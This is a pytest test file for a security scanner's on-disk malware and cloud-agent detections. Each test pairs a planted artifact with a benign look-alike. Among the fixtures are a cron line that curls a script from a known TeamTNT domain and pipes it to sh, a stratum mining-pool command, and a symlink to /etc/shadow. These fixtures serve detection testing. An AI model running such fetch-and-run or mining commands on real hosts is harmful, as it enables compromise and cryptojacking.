"""Malware and tooling artifacts on disk (collectors/files.py, collectors/agents.py, the YARA rules
in cloudward/data/yara and rules/hunt-artifacts.yaml): each detection fires on its artifact and
stays quiet on the benign look-alike next to it; hostile roots do not break the collectors."""

from __future__ import annotations

import hashlib
import os
import shutil
from functools import cache
from pathlib import Path

import pytest

from cloudward.cli.common import load_all_rules
from cloudward.engines.iocs import Indicator, load_iocs
from cloudward.workload import HostRoot, run_audit
from cloudward.workload.collectors import agents, files
from cloudward.workload.observation import HostContext
from tests.harness.hostroot import build_clean_root, write
from tests.harness.plants import artifacts as plants

COLLECTORS = ["files", "agents"]


@cache
def host_rules():
    return load_all_rules().engine("host")


def audit(root: Path, **kwargs):
    return run_audit(HostRoot(root), host_rules(), only=COLLECTORS, processes=False, **kwargs)


def fired(root: Path, **kwargs) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for finding in audit(root, **kwargs).findings:
        out.setdefault(finding.rule_id, []).append(finding.location.get("path", ""))
    return out


def context(root: Path, **options) -> tuple[HostContext, list[tuple[str, str]]]:
    errors: list[tuple[str, str]] = []
    ctx = HostContext(root=HostRoot(root), iocs=load_iocs(), error=lambda i, m: errors.append((i, m)),
                      options=dict(options))
    return ctx, errors


def elf(root: Path, inner: str, extra: bytes = b"") -> Path:
    target = root / inner.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(shutil.which("true") or "/bin/true", target)
    if extra:
        with open(target, "ab") as handle:
            handle.write(b"\x00" + extra + b"\x00")
    target.chmod(0o755)
    return target


def dpkg(root: Path, package: str, *paths: str) -> None:
    write(root, f"/var/lib/dpkg/info/{package}.list", "/.\n" + "".join(f"{p}\n" for p in paths))


@pytest.fixture
def clean(tmp_path: Path) -> Path:
    return build_clean_root(tmp_path / "root")


def test_clean_root_gives_no_artifact_finding(clean: Path):
    result = audit(clean)
    assert result.findings == []
    assert not [e for e in result.errors if e.target.startswith("collector ")]


# --- YARA rules: artifact vs benign look-alike ---------------------------------------------------

CASES = [
    # (rule id, inner path, artifact text, benign look-alike at the same place)
    ("host.malware.xmrig_config", "/root/.configs/config.json", plants.XMRIG_CONFIG,
     '{"pools": ["db1", "db2"], "url": "https://example.org", "cpu": {"limit": 2}}\n'),
    ("host.malware.stratum_pool_url", "/tmp/run.sh", "./m -o stratum+tcp://pool.fixture.invalid:3333 -u x\n",
     "# Notes\nThe stratum protocol is used by miners (stratum+tcp); we block it at the proxy.\n"),
    ("host.malware.monero_wallet", "/tmp/w.txt", "wallet=4" + "A" + "b" * 93 + "\n",
     "id=4" + "A" + "b" * 80 + "\n"),
    ("host.malware.competing_miner_killer", "/tmp/k.sh", plants.DROPPER,
     "#!/bin/sh\n# restart our own worker\npkill -f celery-worker\nsystemctl restart app\n"),
    ("host.agent.uninstall_script", "/tmp/u.sh", plants.DROPPER,
     "#!/bin/sh\n# install the Alibaba Cloud agent per the vendor docs\nwget https://example.invalid/aegis_install.sh\n"),
    ("host.malware.teamtnt_dropper", "/var/tmp/d.sh", plants.KEY_DROPPER,
     "#!/bin/sh\n# provisioning: add the ops key\ninstall -m 600 ops.pub /root/.ssh/authorized_keys\n"
     "curl -fsSL https://example.invalid/ops.pub -o ops.pub\n"),
    ("host.credtheft.stealer_script", "/dev/shm/s.sh", plants.CRED_STEALER,
     "import requests\n\n# read the instance role for the SDK\n"
     "r = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/app', timeout=2)\n"
     "print(r.status_code)\n"),
    ("host.tooling.tmate_session", "/tmp/t.sh", plants.TMATE_SCRIPT,
     "# pair programming: run `tmate` and share the link with your colleague\n"),
    ("host.malware.teamtnt_strings", "/tmp/h.sh",
     "#!/bin/bash\nif [ \"$(hostname)\" = HaXXoRsMoPPeD ]; then exit; fi\n",
     "#!/bin/bash\n# our hostname is haxxors-mopped-42\n"),
]


@pytest.mark.parametrize(("rule_id", "inner", "artifact", "benign"), CASES, ids=[c[0] for c in CASES])
def test_text_artifact_fires_and_lookalike_does_not(clean: Path, rule_id: str, inner: str, artifact: str,
                                                    benign: str):
    write(clean, inner, benign)
    assert rule_id not in fired(clean)
    write(clean, inner, artifact)
    assert inner in fired(clean).get(rule_id, [])


def test_python_imds_client_without_exfiltration_is_quiet(clean: Path):
    write(clean, "/opt/app/meta.py", "import urllib.request\nURL = 'http://169.254.169.254/latest/meta-data/'\n"
          "print(urllib.request.urlopen(URL + 'instance-id', timeout=1).read())\n")
    assert fired(clean) == {}


@pytest.mark.parametrize(("rule_id", "inner", "payload"), [
    ("host.malware.miner_binary", "/usr/local/bin/sysupdate",
     b"XMRig/%s\x00--donate-level\x00randomx\x00stratum+tcp://"),
    ("host.malware.miner_binary", "/tmp/x", b"stratum+tcp://\x00mining.subscribe\x00cryptonight"),
    ("host.tooling.network_scanner", "/root/.m/scan", b"masscan\x00--max-rate\x00--banners"),
])
def test_binary_artifact_fires_only_inside_an_elf(clean: Path, rule_id: str, inner: str, payload: bytes):
    write(clean, inner, b"#!/bin/sh\n# " + payload.replace(b"\x00", b" ") + b"\n")
    assert rule_id not in fired(clean)
    elf(clean, inner, payload)
    assert inner in fired(clean).get(rule_id, [])


def test_irc_bot_binary_or_source_fires_and_an_irc_client_does_not(clean: Path):
    write(clean, "/tmp/.b/notes.c", 'sprintf(buf, "PRIVMSG %s :hello", chan); sprintf(buf, "NICK %s", nick);\n'
          'sprintf(buf, "JOIN %s", chan); // a tiny IRC client\n')
    assert fired(clean) == {}
    elf(clean, "/tmp/.b/bot", b"NOTICE %s :\x00PRIVMSG %s :\x00NICK %s\x00TSUNAMI\x00PAN\x00KILLALL\x00")
    write(clean, "/root/k.c", 'Send(sock, "NOTICE %s :TSUNAMI <target>\\n"); Send(sock, "PRIVMSG %s :PAN");\n'
          'Send(sock, "NICK %s\\n"); if (!strcmp(cmd, "KILLALL")) {}\n')
    assert sorted(fired(clean)["host.malware.irc_bot"]) == ["/root/k.c", "/tmp/.b/bot"]


def test_one_file_gives_one_miner_finding(clean: Path):
    elf(clean, "/tmp/xm", b"XMRig/%s\x00--donate-level\x00randomx\x00stratum+tcp://x.invalid:3333\x00"
        b"mining.subscribe\x00stratum+ssl://")
    result = fired(clean)
    assert result.get("host.malware.miner_binary") == ["/tmp/xm"]
    assert "host.malware.stratum_pool_url" not in result


def test_ioc_domain_in_script_is_reported_with_its_source(clean: Path):
    write(clean, "/etc/cron.d/update", "*/3 * * * * root curl -fsSL http://dl.teamtnt.red/i.sh | sh\n")
    result = audit(clean)
    refs = [f for f in result.findings if f.rule_id == "host.malware.ioc_reference"]
    assert len(refs) == 1
    assert refs[0].evidence["value"] == "teamtnt.red"
    assert refs[0].evidence["source"] and refs[0].evidence["date"]
    write(clean, "/etc/cron.d/update", "*/3 * * * * root curl -fsSL http://notteamtnt.red.example/i.sh | sh\n")
    assert "host.malware.ioc_reference" not in fired(clean)


def test_known_hash_matches_exactly(clean: Path):
    target = elf(clean, "/tmp/payload")
    digest = hashlib.sha256(target.read_bytes()).hexdigest()
    iocs = load_iocs()
    assert "host.malware.known_hash" not in fired(clean, iocs=iocs)
    iocs.add(Indicator("sha256", digest, "fixture list", "2024-01-01"))
    result = audit(clean, iocs=iocs)
    hits = [f for f in result.findings if f.rule_id == "host.malware.known_hash"]
    assert [f.location["path"] for f in hits] == ["/tmp/payload"]
    assert hits[0].evidence["source"] == "fixture list"


def test_user_yara_folder_adds_rules_and_a_broken_file_is_reported(clean: Path, tmp_path: Path):
    folder = tmp_path / "myrules"
    write(folder, "/ok.yar", 'rule acme_backdoor { meta: description = "acme" strings: $a = "ACME-BD-7" '
          "condition: $a }\n")
    write(folder, "/bad.yar", "rule oops {\n  condition: nope\n}\n")
    write(clean, "/opt/x.txt", "ACME-BD-7\n")
    write(clean, "/root/.configs/config.json", plants.XMRIG_CONFIG)
    result = audit(clean, options={"yara_rules": [str(folder)]})
    ids = {f.rule_id for f in result.findings}
    assert {"host.malware.user_yara_rule", "host.malware.xmrig_config"} <= ids
    errors = [e for e in result.errors if "bad.yar" in e.target]
    assert errors and ":2:" in errors[0].message


# --- disguised binaries --------------------------------------------------------------------------

def test_dockerd_named_elf_in_tmp_and_hidden_name(clean: Path):
    elf(clean, "/tmp/.dockerd")
    elf(clean, "/dev/shm/docker-update")
    result = fired(clean)
    assert sorted(result["host.disguise.system_name_in_temp"]) == ["/dev/shm/docker-update", "/tmp/.dockerd"]


def test_unpacked_tree_in_tmp_is_not_a_disguise(clean: Path):
    elf(clean, "/tmp/build/rootfs/usr/sbin/sshd")
    elf(clean, "/tmp/build/rootfs/usr/bin/dockerd")
    write(clean, "/tmp/.dockerd", "not an executable, a text note\n")
    assert fired(clean) == {}


def test_kernel_thread_names(clean: Path):
    elf(clean, "/tmp/kworker")
    elf(clean, "/opt/.cache/[kthreadd]")
    write(clean, "/tmp/kswapd0", "just text\n")
    assert sorted(fired(clean)["host.disguise.kernel_thread_named_file"]) == ["/opt/.cache/[kthreadd]", "/tmp/kworker"]


def test_legit_docker_owned_by_dpkg_and_rootless_dockerd_in_home_are_quiet(clean: Path):
    dpkg(clean, "docker.io", "/usr/bin/docker", "/usr/bin/dockerd")
    elf(clean, "/usr/bin/docker")
    elf(clean, "/usr/bin/dockerd")
    elf(clean, "/home/admin/bin/dockerd")  # rootless Docker installs here
    elf(clean, "/usr/local/bin/docker-compose")  # the usual manual install
    assert fired(clean) == {}


def test_packaged_name_elsewhere_needs_the_package_database(clean: Path):
    elf(clean, "/usr/local/bin/ps")
    assert fired(clean) == {}  # no package database: unknown ownership never fires
    dpkg(clean, "procps", "/usr/bin/ps")
    elf(clean, "/usr/bin/ps")
    assert fired(clean) == {"host.disguise.packaged_name_elsewhere": ["/usr/local/bin/ps"]}
    dpkg(clean, "local-ps", "/usr/local/bin/ps")
    assert fired(clean) == {}


def test_hidden_system_name_in_home(clean: Path):
    elf(clean, "/root/.sshd")
    elf(clean, "/home/admin/.local/bin/tool")
    assert fired(clean) == {"host.disguise.hidden_system_named_binary": ["/root/.sshd"]}


def test_classify_helpers():
    assert files.classify_name(".dockerd") == ["hidden", "container_daemon"]
    assert files.classify_name("kworker/0:1") == ["kernel_thread"]
    assert files.classify_name("[kthreadd]") == ["kernel_thread"]
    assert files.classify_name("kube-proxy") == ["container_daemon"]
    assert files.classify_name("report.pdf") == []
    assert files.classify_location("/dev/shm/x") == "tmp"
    assert files.classify_location("/home/u/x") == "home"
    assert files.classify_location("/.cache/x") == "hidden_root"
    assert files.classify_location("/usr/.lib/x") == "hidden_root"
    assert files.place_depth("/tmp/x") == 1
    assert files.place_depth("/home/admin/x") == 1
    assert files.place_depth("/tmp/a/b/c") == 3


# --- cloud agents ---------------------------------------------------------------------------------

def test_agent_not_installed_is_not_observed(clean: Path):
    ctx, errors = context(clean)
    assert list(agents.collect(ctx)) == []
    assert errors == []


def test_installed_agent_is_inventory_not_a_finding(clean: Path):
    elf(clean, "/usr/local/aegis/aegis_client/aegis_11_25/AliYunDun")
    elf(clean, "/usr/local/aegis/aegis_update/AliYunDunUpdate")
    ctx, _ = context(clean)
    [observation] = list(agents.collect(ctx))
    assert observation.facts["state"] == "installed"
    assert fired(clean) == {}


def test_agent_left_without_binary(clean: Path):
    plants.plant_aegis_leftover(clean)
    assert fired(clean) == {"host.agent.removed_security_agent": ["/usr/local/aegis"]}


def test_masked_agent_unit(clean: Path):
    plants.plant_masked_ssm_agent(clean)
    result = audit(clean)
    [finding] = result.findings
    assert finding.rule_id == "host.agent.masked_security_agent"
    assert finding.evidence["units_masked"] == ["amazon-ssm-agent.service"]


def test_enabled_ssm_agent_is_quiet(clean: Path):
    elf(clean, "/usr/bin/amazon-ssm-agent")
    write(clean, "/lib/systemd/system/amazon-ssm-agent.service", "[Service]\nExecStart=/usr/bin/amazon-ssm-agent\n")
    os.symlink("/lib/systemd/system/amazon-ssm-agent.service",
               clean / "etc/systemd/system/multi-user.target.wants/amazon-ssm-agent.service")
    ctx, _ = context(clean)
    [observation] = list(agents.collect(ctx))
    assert observation.facts["units_enabled"] == ["amazon-ssm-agent.service"]
    assert fired(clean) == {}


# --- hostile roots --------------------------------------------------------------------------------

def test_hostile_files_do_not_break_the_collector(clean: Path):
    os.mkfifo(clean / "tmp/fifo")
    os.symlink("/etc/shadow", clean / "tmp/link-to-shadow")
    os.symlink("loop-b", clean / "tmp/loop-a")
    os.symlink("loop-a", clean / "tmp/loop-b")
    os.symlink("/", clean / "tmp/rootlink")  # a directory symlink must not be followed into a loop
    (clean / "tmp/dir-loop").mkdir()
    os.symlink("..", clean / "tmp/dir-loop/up")
    (clean / "tmp/garbage.bin").write_bytes(bytes(range(256)) * 64)
    (clean / "tmp/bad-utf8.sh").write_bytes(b"#!/bin/sh\n\xff\xfe curl http://teamtnt.red/x\n")
    write(clean, "/tmp/locked.sh", "secret\n", 0o000)
    deep = clean / "tmp" / "/".join(["d"] * 40)
    deep.mkdir(parents=True)
    (deep / "x.sh").write_text("stratum+tcp://deep.invalid:3333\n")
    result = audit(clean)
    assert not [e for e in result.errors if e.target.startswith("collector ")]
    refs = {f.location["path"] for f in result.findings if f.rule_id == "host.malware.ioc_reference"}
    assert refs == {"/tmp/bad-utf8.sh"}


def test_budgets_bound_the_walk_and_say_so(clean: Path):
    for n in range(30):
        write(clean, f"/tmp/f{n:02}.txt", "plain\n")
    write(clean, "/tmp/big.sh", "x" * 5000)
    ctx, errors = context(clean, files_max_files=10, files_max_file_bytes=4096)
    list(files.collect(ctx))
    messages = " ".join(m for _, m in errors)
    assert "scan budget reached" in messages
    assert "larger than 4096 bytes" in messages
